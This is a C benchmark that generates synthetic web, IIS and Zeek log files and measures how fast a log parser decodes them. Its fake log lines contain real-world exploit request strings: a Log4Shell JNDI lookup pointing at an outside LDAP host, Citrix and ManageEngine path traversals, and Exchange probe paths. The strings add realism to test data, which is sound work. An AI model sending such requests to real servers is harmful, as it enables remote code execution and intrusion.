/*
 * weblog_bench.c - single-thread throughput of the line-based decoders:
 * combined access logs, W3C (IIS) and Zeek TSV conn.log.
 *
 *   weblog_bench [-s MB] [-d DIR] [FORMAT…]      FORMAT: combined w3c zeek
 *
 * For each format a realistic file of at least MB megabytes (default 512)
 * is generated once in DIR (default /tmp) from a fixed seed, then measured
 * two ways:
 *   reader   tr_reader over the file: read, frame, parse (what `trawl cat`
 *            does minus JSON output), from the page cache after a warm-up;
 *   parser   tr_parser_parse alone over 64 MB of those lines held in memory,
 *            repeated to the same volume: the decoder's own cost.
 * Output formatting is not measured. Wall-clock MB/s and lines/s are
 * printed with MB per CPU-second next to them: on a shared machine the
 * latter is the steadier per-core figure. Figures go to people and, as
 * "RESULT name value unit" lines, to bench/run.sh.
 */
#include "core/common.h"

#include <sys/stat.h>
#include <time.h>

#include "trawl/arena.h"
#include "trawl/parse.h"
#include "trawl/reader.h"

#define NFIELDS 256

static uint64_t rng = 0x9E3779B97F4A7C15ULL;

static uint32_t rnd(uint32_t n)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return (uint32_t)(rng % n);
}

static const char *const methods[] = { "GET", "GET", "GET", "GET", "POST", "HEAD", "PUT" };
static const char *const paths[] = {
    "/", "/index.html", "/vpn/index.html", "/vpn/../vpns/portal/scripts/newbm.pl",
    "/owa/auth/logon.aspx", "/wp-login.php", "/api/v2/items/12345", "/static/js/app.min.js",
    "/images/logo.png", "/cgi-bin/config.exp", "/mdm/client/v1/mdmLogUploader",
    "/ecp/DDI/DDIService.svc/GetObject", "/search",
};
static const char *const queries[] = { "", "", "", "?q=test", "?id=42&sort=asc",
                                       "?udid=si\\..\\..\\webapps&filename=logger.zip",
                                       "?x=${jndi:ldap://1.2.3.4/a}", "?page=2" };
static const char *const agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/89.0.4389.90 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:85.0) Gecko/20100101 Firefox/85.0",
    "curl/7.67.0", "python-requests/2.22.0", "-", "Nikto/2.1.6",
    "Mozilla/5.0 (compatible; \\\"quoted\\\" bot)",
};
static const char *const iis_agents[] = {
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)",
    "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13127)",
    "ExchangeServicesClient/0.0.0.0", "python-requests/2.25.1", "-",
};
static const char *const mon[] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                   "Jul", "Aug", "Sep", "Oct", "Nov", "Dec" };

static int line_combined(char *b, size_t cap, uint64_t i)
{
    unsigned day = 1 + (unsigned)(i / 1728000 % 28), sec = (unsigned)(i / 20 % 86400);
    const char *ua = agents[rnd(TR_ARRAY_LEN(agents))];
    int k;
    if (rnd(20) == 0)
        k = snprintf(b, cap, "2001:db8::%x - - ", rnd(65536));
    else
        k = snprintf(b, cap, "%u.%u.%u.%u - %s ", 1 + rnd(223), rnd(256), rnd(256), rnd(256),
                     rnd(10) ? "-" : "alice");
    k += snprintf(b + k, cap - (size_t)k,
                  "[%02u/%s/2020:%02u:%02u:%02u +0000] \"%s %s%s HTTP/1.1\" %u %u \"%s\" \"%s\"",
                  day, mon[i / 48384000 % 12], sec / 3600, sec / 60 % 60, sec % 60,
                  methods[rnd(TR_ARRAY_LEN(methods))], paths[rnd(TR_ARRAY_LEN(paths))],
                  queries[rnd(TR_ARRAY_LEN(queries))], rnd(8) ? 200u : 404u, rnd(60000),
                  rnd(3) ? "-" : "https://www.example.com/start.html", ua);
    if (rnd(4) == 0)
        k += snprintf(b + k, cap - (size_t)k, " \"Time: %u microsecs\"", rnd(200000));
    b[k++] = '\n';
    return k;
}

static const char iis_header[] =
    "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
    "#Date: 2020-03-02 00:00:00\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n";

static int line_w3c(char *b, size_t cap, uint64_t i)
{
    unsigned sec = (unsigned)(i / 20 % 86400);
    const char *q = queries[rnd(TR_ARRAY_LEN(queries))];
    int k = snprintf(b, cap,
                     "2020-03-%02u %02u:%02u:%02u 10.0.0.5 %s %s %s 443 %s %u.%u.%u.%u %s %s "
                     "%u 0 0 %u\n",
                     1 + (unsigned)(i / 1728000 % 28), sec / 3600, sec / 60 % 60, sec % 60,
                     methods[rnd(TR_ARRAY_LEN(methods))], paths[rnd(TR_ARRAY_LEN(paths))],
                     *q ? q + 1 : "-", rnd(10) ? "-" : "CONTOSO\\alice", 1 + rnd(223), rnd(256),
                     rnd(256), rnd(256), iis_agents[rnd(TR_ARRAY_LEN(iis_agents))],
                     rnd(3) ? "-" : "https://mail.contoso.com/owa/", rnd(8) ? 200u : 302u,
                     rnd(5000));
    return k;
}

static const char zeek_header[] =
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n"
    "#open\t2020-01-20-08-00-00\n"
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\t"
    "orig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\t"
    "orig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents\n"
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\t"
    "bool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]\n";

static int line_zeek(char *b, size_t cap, uint64_t i)
{
    static const char *const svc[] = { "-", "http", "ssl", "dns", "ftp" };
    static const char *const st[] = { "SF", "S0", "REJ", "RSTO", "SH" };
    return snprintf(b, cap,
                    "%" PRIu64 ".%06u\tC%08x%08x\t10.%u.%u.%u\t%u\t%u.%u.%u.%u\t%u\ttcp\t%s\t"
                    "%u.%06u\t%u\t%u\t%s\tT\tF\t0\tShADadFf\t%u\t%u\t%u\t%u\t%s\n",
                    1579500000 + i / 50, rnd(1000000), rnd(UINT32_MAX), rnd(UINT32_MAX), rnd(256),
                    rnd(256), rnd(256), 1024 + rnd(60000), 1 + rnd(223), rnd(256), rnd(256),
                    rnd(256), rnd(4) ? 443u : 80u, svc[rnd(5)], rnd(100), rnd(1000000),
                    rnd(100000), rnd(1000000), st[rnd(5)], rnd(100), rnd(10000), rnd(100),
                    rnd(100000), rnd(50) ? "(empty)" : "CjhGID4nQcgTWjvg4c,CCvvfg3TEfuqmmG4bh");
}

typedef struct fmt_gen {
    const char *name;
    tr_format fmt;
    const char *header;
    int (*line)(char *b, size_t cap, uint64_t i);
} fmt_gen;

static const fmt_gen gens[] = {
    { "combined", TR_FMT_COMBINED, "", line_combined },
    { "w3c", TR_FMT_W3C, iis_header, line_w3c },
    { "zeek", TR_FMT_ZEEK, zeek_header, line_zeek },
};

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* CPU seconds of this process: on a shared machine the wall clock also
 * counts the time other processes held the core. */
static double cpu(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Builds size bytes of g's lines in memory (header first). */
static char *generate(const fmt_gen *g, size_t size, size_t *out_n)
{
    char *buf = malloc(size + 4096);
    if (!buf)
        return NULL;
    size_t n = strlen(g->header);
    memcpy(buf, g->header, n);
    rng = 0x9E3779B97F4A7C15ULL;
    for (uint64_t i = 0; n < size; i++)
        n += (size_t)g->line(buf + n, 4096, i);
    *out_n = n;
    return buf;
}

static int ensure_file(const fmt_gen *g, const char *path, size_t size)
{
    struct stat sb;
    if (stat(path, &sb) == 0 && (size_t)sb.st_size >= size)
        return 0;
    size_t n;
    char *buf = generate(g, size, &n);
    if (!buf)
        return -1;
    FILE *f = fopen(path, "wb");
    int rc = f && fwrite(buf, 1, n, f) == n ? 0 : -1;
    if (f && fclose(f) != 0)
        rc = -1;
    free(buf);
    return rc;
}

static int bench_reader(const fmt_gen *g, const char *path)
{
    tr_field *fields = malloc(NFIELDS * sizeof(*fields));
    tr_arena *arena = tr_arena_new(0, 0);
    tr_event ev;
    tr_event_init(&ev, fields, NFIELDS, arena);
    double best = 0, best_cpu = 0;
    uint64_t events = 0, bytes = 0, rejected = 0;
    for (int run = 0; run < 2; run++) { /* the first run warms the page cache */
        tr_reader_opts o = { .format = g->fmt };
        tr_reader *r;
        char err[256];
        if (tr_reader_open(path, &o, &r, err, sizeof(err)) != TR_OK) {
            fprintf(stderr, "weblog_bench: %s\n", err);
            return -1;
        }
        double t0 = now(), c0 = cpu();
        tr_err e;
        while ((e = tr_reader_next(r, &ev)) == TR_OK || e == TR_EPARSE || e == TR_ELIMIT)
            ;
        double t = now() - t0, c = cpu() - c0;
        const tr_reader_stats *st = tr_reader_stats_get(r);
        events = st->events;
        rejected = st->rejected;
        bytes = st->bytes;
        tr_reader_free(r);
        if (e != TR_EEOF) {
            fprintf(stderr, "weblog_bench: %s: read error\n", path);
            return -1;
        }
        if (run == 1) {
            best = t;
            best_cpu = c;
        }
    }
    double mbs = (double)bytes / 1e6 / best, lps = (double)events / best;
    double cmbs = (double)bytes / 1e6 / best_cpu;
    printf("%-9s reader  %7.1f MB/s  %6.2f M lines/s  %7.1f MB per CPU-s  (%" PRIu64
           " MB, %" PRIu64 " events, %" PRIu64 " rejected, %.2f s)\n",
           g->name, mbs, lps / 1e6, cmbs, bytes / 1000000, events, rejected, best);
    printf("RESULT %s_reader_mb_s %.1f MB/s\n", g->name, mbs);
    printf("RESULT %s_reader_lines_s %.0f lines/s\n", g->name, lps);
    printf("RESULT %s_reader_mb_per_cpu_s %.1f MB/s\n", g->name, cmbs);
    free(fields);
    tr_arena_free(arena);
    return rejected ? -1 : 0;
}

static int bench_parser(const fmt_gen *g, size_t volume)
{
    size_t n;
    char *buf = generate(g, 64u << 20, &n);
    tr_parser *p;
    if (!buf || tr_parser_new(g->fmt, NULL, &p) != TR_OK)
        return -1;
    /* line offsets */
    size_t nlines = 0, cap = n / 40 + 16;
    tr_str *lines = malloc(cap * sizeof(*lines));
    for (size_t off = 0; off < n;) {
        const char *nl = memchr(buf + off, '\n', n - off);
        size_t len = nl ? (size_t)(nl - buf - off) : n - off;
        if (nlines == cap)
            break;
        lines[nlines++] = (tr_str){ buf + off, len };
        off += len + 1;
    }
    tr_field *fields = malloc(NFIELDS * sizeof(*fields));
    tr_arena *arena = tr_arena_new(0, 0);
    tr_event ev;
    tr_event_init(&ev, fields, NFIELDS, arena);
    uint64_t events = 0, bytes = 0, bad = 0;
    for (size_t i = 0; i < nlines && i < 10000; i++) { /* warm-up: arena chunks */
        tr_arena_reset(arena);
        tr_event_reset(&ev);
        tr_parser_parse(p, lines[i], &ev);
    }
    uint64_t allocs = tr_alloc_count();
    double t0 = now(), c0 = cpu();
    while (bytes < volume) {
        for (size_t i = 0; i < nlines; i++) {
            tr_arena_reset(arena);
            tr_event_reset(&ev);
            tr_err e = tr_parser_parse(p, lines[i], &ev);
            if (e == TR_OK)
                events++;
            else if (e != TR_ESKIP)
                bad++;
            bytes += lines[i].n + 1;
        }
    }
    double t = now() - t0, c = cpu() - c0;
    allocs = tr_alloc_count() - allocs;
    double mbs = (double)bytes / 1e6 / t, lps = (double)events / t;
    double cmbs = (double)bytes / 1e6 / c;
    printf("%-9s parser  %7.1f MB/s  %6.2f M lines/s  %7.1f MB per CPU-s  (%" PRIu64
           " MB, %" PRIu64 " events, %" PRIu64 " rejected, %" PRIu64
           " allocations after warm-up)\n",
           g->name, mbs, lps / 1e6, cmbs, bytes / 1000000, events, bad, allocs);
    printf("RESULT %s_parser_mb_s %.1f MB/s\n", g->name, mbs);
    printf("RESULT %s_parser_lines_s %.0f lines/s\n", g->name, lps);
    printf("RESULT %s_parser_mb_per_cpu_s %.1f MB/s\n", g->name, cmbs);
    tr_parser_free(p);
    free(lines);
    free(buf);
    free(fields);
    tr_arena_free(arena);
    return bad ? -1 : 0;
}

int main(int argc, char **argv)
{
    size_t mb = 512;
    const char *dir = "/tmp";
    int i = 1;
    for (; i < argc && argv[i][0] == '-'; i++) {
        if (!strcmp(argv[i], "-s") && i + 1 < argc)
            mb = strtoul(argv[++i], NULL, 10);
        else if (!strcmp(argv[i], "-d") && i + 1 < argc)
            dir = argv[++i];
        else {
            fprintf(stderr, "usage: weblog_bench [-s MB] [-d DIR] [combined|w3c|zeek…]\n");
            return 2;
        }
    }
    int rc = 0;
    for (size_t k = 0; k < TR_ARRAY_LEN(gens); k++) {
        const fmt_gen *g = &gens[k];
        bool want = i == argc;
        for (int j = i; j < argc; j++)
            want |= !strcmp(argv[j], g->name);
        if (!want)
            continue;
        char path[512];
        snprintf(path, sizeof(path), "%s/trawl-bench-%s-%zuM.log", dir, g->name, mb);
        if (ensure_file(g, path, mb << 20)) {
            fprintf(stderr, "weblog_bench: cannot write %s\n", path);
            return 1;
        }
        if (bench_reader(g, path) || bench_parser(g, mb << 20))
            rc = 1;
        fflush(stdout);
    }
    return rc;
}
